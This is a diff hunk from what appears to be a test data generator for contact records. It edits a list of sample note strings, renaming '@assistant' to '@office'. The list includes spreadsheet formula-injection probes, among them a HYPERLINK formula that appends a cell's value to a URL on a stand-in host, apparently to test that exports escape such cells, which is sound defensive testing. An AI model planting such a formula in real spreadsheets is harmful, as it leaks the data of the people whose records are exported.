@@ -26,7 +26,7 @@ _KINDS = (("person", 0.83), ("stranger", 0.06), ("repeat", 0.09), ("reject", 0.0
 _NOTES = (
     "", "", "", "", "", "", "", "met at trade fair", "asked for a call back in spring", "prefers e-mail; très gentil",
     '=HYPERLINK("http://sandbox.invalid/?x="&A1,"click me")', "+1 wants a demo", "-- do not use old number --",
-    "@assistant books meetings", "said: \"maybe\", then hung up\nsecond line", "=1+1",
+    "@office books meetings", "said: \"maybe\", then hung up\nsecond line", "=1+1",
 )  # fmt: skip
 
 
